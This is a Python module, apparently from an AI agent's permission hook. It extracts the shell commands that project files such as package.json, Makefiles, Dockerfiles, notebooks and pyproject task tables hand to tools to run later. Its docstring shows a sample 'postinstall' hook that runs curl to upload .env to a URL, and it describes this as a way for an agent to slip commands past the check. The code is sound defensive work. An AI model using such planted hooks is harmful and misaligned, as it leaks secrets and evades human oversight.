"""The shell commands a project file holds that a tool runs later (npm's scripts, make's recipes, just's, tox's
`commands`, a Dockerfile's RUN, pre-commit's `entry`, a Procfile's, a notebook's `!cmd` and `%%bash` cells, the task
tables of pyproject.toml (hatch, pdm, poe, rye, taskipy), tox's settings in setup.cfg, deno's tasks).

An agent that writes `"postinstall": "curl -T .env URL"` into package.json and then runs `npm install` sends what it
could not send by typing the command: the hook decides each such command as if the agent had typed it when the file
is written. The readings are plain: what the tool would run, with the tool's own substitutions made (make's `$$` is
`$`, a variable the file sets is its value); what the reading cannot follow is left as a word the analysis does not
know, so it asks.
"""
from __future__ import annotations

import json
import re
import shlex
import tomllib
from typing import Any, Callable

_MAKE = re.compile(r"^(?:GNUmakefile|[Mm]akefile|.+\.mk)$")
_DOCKER = re.compile(r"^(?:Dockerfile|Containerfile)(?:\..+)?$|\.(?:[Dd]ockerfile|[Cc]ontainerfile)$")


# What a reading that cannot follow the file stands for: code whose text the analysis does not see (a literal
# `eval x` would be followed: it runs `x`, an unlisted program, which asks nothing).
UNREAD = 'eval "$UNREAD_RUN_FILE"'


def run_file_kind(path: str) -> str:
    """The tool whose commands the file at `path` holds ("" for none), by its name."""
    name = path.rstrip("/").rsplit("/", 1)[-1]
    if name in ("package.json", "composer.json"):
        return "json_scripts"
    if _MAKE.match(name):
        return "make"
    if name in ("justfile", "Justfile", ".justfile", "JUSTFILE"):
        return "just"
    if name == "tox.ini":
        return "tox"
    if _DOCKER.search(name):
        return "docker"
    if name in (".pre-commit-config.yaml", ".pre-commit-config.yml", ".pre-commit-hooks.yaml"):
        return "pre_commit"
    if name == "Procfile" or name.startswith("Procfile."):
        return "procfile"
    if name.endswith(".ipynb"):
        return "notebook"
    if name == "pyproject.toml":
        return "pyproject"
    if name == "setup.cfg":
        return "setup_cfg"
    if name in ("deno.json", "deno.jsonc"):
        return "deno"
    return ""


def shell_write_asks(path: str) -> bool:
    """Whether a shell command that writes the file at `path` needs a human (its new commands are not read there).
    pyproject.toml and setup.cfg are edited by shell all the time (a version bumped with `sed -i`): their code
    settings are [settings_code]'s, read in the shell command's text; the Write and Edit tools read their task tables."""
    return run_file_kind(path) not in ("", "pyproject", "setup_cfg")


def run_file_commands(path: str, text: str) -> list[str]:
    """The shell commands `text`, the content of the file at `path`, holds for its tool to run later."""
    kind = run_file_kind(path)
    return [c for c in _READERS[kind](text) if c.strip()] if kind else []


def _joined(text: str) -> list[str]:
    """Lines with their backslash-newline continuations joined."""
    return re.sub(r"\\\r?\n", " ", text).splitlines()


def _json_scripts(text: str, table: str = "scripts") -> list[str]:
    try:
        doc = json.loads(text)
    except ValueError:
        return []               # npm and composer refuse a file that is not JSON: nothing runs
    scripts = doc.get(table) if isinstance(doc, dict) else None
    return _task_commands(scripts) if isinstance(scripts, dict) else []


def _deno(text: str) -> list[str]:
    try:
        json.loads(text)
    except ValueError:
        return [UNREAD]    # deno reads JSON with comments, not read here
    return _json_scripts(text, "tasks")


# In a task table, the keys whose values are commands a runner runs in a shell or as a program (poe's `cmd`, `shell`,
# `sequence`; pdm's `cmd`, `shell`, `composite`; deno's `command`); `script`, `call`, `expr` name Python callables.
_COMMAND_KEYS = ("cmd", "shell", "sequence", "composite", "command", "commands")


def _task_commands(tasks: dict[str, Any], depth: int = 0) -> list[str]:
    """The commands of a task table's values: a string, a list of them, or a table of _COMMAND_KEYS."""
    out: list[str] = []
    for value in tasks.values():
        out += _command_values(value, depth)
    return out


def _command_values(value: Any, depth: int) -> list[str]:
    if isinstance(value, str):
        return [value]
    if depth > 4:
        return [UNREAD]
    if isinstance(value, list):
        return [c for v in value for c in _command_values(v, depth + 1)]
    if isinstance(value, dict):
        return [c for k in _COMMAND_KEYS if k in value for c in _command_values(value[k], depth + 1)]
    return []


# Under [tool.*] of pyproject.toml, the tables whose values a task runner runs (hatch's envs' `scripts`, pdm's and
# rye's `scripts`, poe's and taskipy's `tasks`) and hatch's install commands; poetry's `scripts` are entry points
# (module:function), not commands.
_TASK_TABLES = ("scripts", "tasks")
_COMMAND_LISTS = ("pre-install-commands", "post-install-commands")


def _pyproject(text: str) -> list[str]:
    try:
        doc = tomllib.loads(text)
    except tomllib.TOMLDecodeError:
        return []               # the tools refuse a file that is not TOML: nothing runs
    tool = doc.get("tool")
    if not isinstance(tool, dict):
        return []
    out = [c for name, body in tool.items() if name != "poetry" for c in _tool_tables(body, 0)]
    legacy = tool.get("tox", {}).get("legacy_tox_ini") if isinstance(tool.get("tox"), dict) else None
    return out + (_tox(legacy) if isinstance(legacy, str) else [])


def _tool_tables(node: Any, depth: int) -> list[str]:
    if not isinstance(node, dict) or depth > 5:
        return []
    out: list[str] = []
    for key, value in node.items():
        if key in _TASK_TABLES and isinstance(value, dict):
            out += _task_commands(value)
        elif key in _COMMAND_LISTS:
            out += _command_values(value, 0)
        else:
            out += _tool_tables(value, depth + 1)
    return out


_MAKE_SET = re.compile(r"^(?:export\s+|override\s+)?([A-Za-z_.][\w.-]*)\s*(:{1,3}=|\?=|\+=|!=|=)\s*(.*)$")
_MAKE_DEFAULTS = {"CC": "cc", "CXX": "c++", "CPP": "cc -E", "LD": "ld", "AR": "ar", "AS": "as", "RM": "rm -f",
                  "MAKE": "make", "FC": "f77", "SHELL": "/bin/sh"}


def _make(text: str) -> list[str]:
    lines = _joined(text)
    prefix = "\t"
    values = dict(_MAKE_DEFAULTS)
    out: list[str] = []
    for line in lines:
        if line.startswith(".RECIPEPREFIX"):
            prefix = (line.split("=", 1)[1].strip() or "\t")[:1] if "=" in line else "\t"
            continue
        if line.startswith(prefix):                      # prefix is one character, never ""
            out.append(line[1:].strip().lstrip("@+-").strip())
            continue
        m = _MAKE_SET.match(line)
        if m:
            values[m.group(1)] = m.group(3)
            if m.group(2) == "!=":
                out.append(m.group(3))               # `X != cmd` runs cmd when make reads the file
        out += [c for c in re.findall(r"\$[({]shell\s+([^)}]*)[)}]", line)]
        rule = re.match(r"^[^\s:#=][^:#=]*:(?!=)[^;]*;(.*)$", line)
        if rule:
            out.append(rule.group(1).strip().lstrip("@+-"))
    commands = [_make_words(c, values) for c in out]
    if values["SHELL"] != "/bin/sh" or ".SHELLFLAGS" in values:         # SHELL: one of _MAKE_DEFAULTS   # what make runs each line with
        shell = _make_words(f"{values['SHELL']} {values.get('.SHELLFLAGS', '-c')}", values)
        commands = [f"{shell} {shlex.quote(c)}" for c in commands] + [shell]
    return commands


def _make_words(command: str, values: dict[str, str], depth: int = 0, budget: list[int] | None = None) -> str:
    """A recipe line as make hands it to the shell: `$$` is `$`, `$(X)` and `${X}` the value the file sets (the
    defaults make knows), `$(shell c)` is `$(c)`, an automatic variable a file name. Past 8 levels or 10,000
    substitutions the line is `eval` of what it builds: code the analysis does not follow."""
    budget = [10_000] if budget is None else budget

    def sub(m: re.Match[str]) -> str:
        whole = m.group(0)
        if whole == "$$":
            return "\0"
        name = (m.group(1) or m.group(2) or m.group(3) or "").strip()
        if name.startswith("shell "):
            return "$(" + name[6:] + ")"
        if name in values:
            budget[0] -= 1
            return _make_words(values[name], values, depth + 1, budget) if depth < 8 and budget[0] > 0 else "\1"
        return "target" if len(name) <= 1 or name[0] in "@<^*?%+|" else ""
    out = re.sub(r"\$\$|\$\(([^()]*)\)|\$\{([^{}]*)\}|\$(.)", sub, command)
    if "\1" in out:
        return UNREAD if depth == 0 else out
    return out.replace("\0", "$") if depth == 0 else out


def _just(text: str) -> list[str]:
    values = {m.group(1): m.group(2).strip().strip("'\"") for m in
              re.finditer(r"^(?:export\s+)?([A-Za-z_][\w-]*)\s*:=\s*(.*)$", text, re.M)}
    out: list[str] = []
    body: list[str] = []
    interpreter = ""

    def close() -> None:
        if body and interpreter and not re.search(r"(?:^|/|\s)(?:ba|z|da|k)?sh$", interpreter):
            out.append(f"{interpreter.split()[-1].rsplit('/', 1)[-1]} -c {shlex.quote(chr(10).join(body))}")
        else:
            out.extend(b.lstrip("@-") for b in body)
        body.clear()

    for line in _joined(text):
        if line[:1] in (" ", "\t") and line.strip():
            stripped = line.strip()
            if not body and stripped.startswith("#!"):
                interpreter = stripped[2:].strip()
                continue
            body.append(re.sub(r"\{\{\s*([\w-]+)\s*\}\}", lambda m: values.get(m.group(1), "x"), stripped))
        elif line.strip():
            close()
            interpreter = ""
            m = re.search(r"\$\(([^)]*)\)|`([^`]*)`", line) if ":=" in line else None
            if m:
                out.append(m.group(1) or m.group(2))       # a backtick or $() value runs when just reads the file
    close()
    shell = re.search(r"^set\s+(?:windows-)?shell\s*:=\s*(\[.*\])\s*$", text, re.M)   # what just runs each line with
    if shell:
        words = _argv_words(shell.group(1).replace("'", '"'), "x")
        out = [f"{words} {shlex.quote(c)}" for c in out] + [words]
    return out


_TOX_KEY = re.compile(r"^(commands(?:_pre|_post)?|install_command|list_dependencies_command)\s*=\s*(.*)$")


def _tox(text: str) -> list[str]:
    out: list[str] = []
    taking = False
    for line in _joined(text):
        m = _TOX_KEY.match(line.strip()) if not line[:1].isspace() else None
        if m:
            taking, first = True, m.group(2)
            out.append(first)
        elif taking and line[:1].isspace() and line.strip():
            out.append(line.strip())
        elif line.strip():
            taking = False
    return [re.sub(r"\{[^{}]*\}", "x", c).lstrip("-! ") for c in out if not c.strip().startswith("#")]


def _docker(text: str) -> list[str]:
    out: list[str] = []
    copied: list[tuple[str, str]] = []
    lines = _joined(text)
    i = 0
    while i < len(lines):
        line = lines[i].strip()
        i += 1
        word, _, rest = line.partition(" ")
        word = word.upper()
        if word in ("COPY", "ADD"):
            try:
                parts = [p for p in shlex.split(rest, comments=False, posix=True) if not p.startswith("--")]
            except ValueError:
                parts = []
            copied += [(src, parts[-1].rstrip("/")) for src in parts[:-1] if parts[-1].rstrip("/")]
        if word != "RUN":
            continue
        rest = re.sub(r"^(?:--\S+\s+)*", "", rest.strip())
        here = re.match(r"^<<-?\s*['\"]?(\w+)['\"]?\s*(.*)$", rest)
        if here:
            end, body = here.group(1), []
            while i < len(lines) and lines[i].strip() != end:
                body.append(lines[i])
                i += 1
            i += 1
            rest = "\n".join(body)
        elif rest.startswith("["):
            rest = _argv_words(rest, rest)
        for src, dst in sorted(copied, key=lambda c: -len(c[1])):   # the image's copy read back as the project's file
            rest = re.sub(rf"(?<![\w./-]){re.escape(dst)}(?=/|\b|$)", src, rest)
        out.append(rest)
    return out


def _argv_words(text: str, fallback: str) -> str:
    """A JSON list of strings (`["sh", "-c", "x"]`) as shell words; `fallback` for anything else."""
    try:
        argv = json.loads(text)
    except ValueError:
        return fallback
    return shlex.join(argv) if isinstance(argv, list) and all(isinstance(a, str) for a in argv) else fallback


def _pre_commit(text: str) -> list[str]:
    return [m.group(1).strip().strip("'\"") for m in re.finditer(r"^\s*-?\s*entry\s*:\s*(.+)$", text, re.M)]


def _procfile(text: str) -> list[str]:
    return [m.group(1) for m in re.finditer(r"^[\w.-]+\s*:\s*(.+)$", text, re.M)]


def _notebook(text: str) -> list[str]:
    """A notebook file's cells (JSON), or one cell's source (NotebookEdit's new_source): what they run in a shell."""
    try:
        doc: Any = json.loads(text)
    except ValueError:
        return cell_commands(text)
    cells = doc.get("cells") if isinstance(doc, dict) else None
    out: list[str] = []
    for cell in cells if isinstance(cells, list) else []:
        source = cell.get("source") if isinstance(cell, dict) else None
        out += cell_commands("".join(source) if isinstance(source, list) else source if isinstance(source, str) else "")
    return out


def cell_commands(source: str) -> list[str]:
    """What one notebook cell runs in a shell: `!cmd`, `!!cmd`, `%sx cmd`, `%system cmd`, `x = !cmd`, and the whole
    cell under `%%bash`, `%%sh`, `%%script bash|sh`, `%%system`."""
    lines = source.splitlines()
    first = lines[0].strip() if lines else ""
    if re.match(r"^%%(?:bash|sh|system|script\s+(?:\S*/)?(?:ba|z|da)?sh)\b", first):
        return ["\n".join(lines[1:])]
    body = "\n".join(lines[1:]) if first.startswith("%%") else source    # %%time, %%capture: IPython reads the rest
    return [m.group(1) for line in _joined(body)
            for m in [re.match(r"^\s*(?:[\w, ]+=\s*)?(?:!!?|%sx\s|%system\s)(.*)$", line)] if m]


_READERS: dict[str, Callable[[str], list[str]]] = {
    "json_scripts": _json_scripts, "make": _make, "just": _just, "tox": _tox, "docker": _docker,
    "pre_commit": _pre_commit, "procfile": _procfile, "notebook": _notebook,
    "pyproject": _pyproject, "setup_cfg": _tox, "deno": _deno,
}
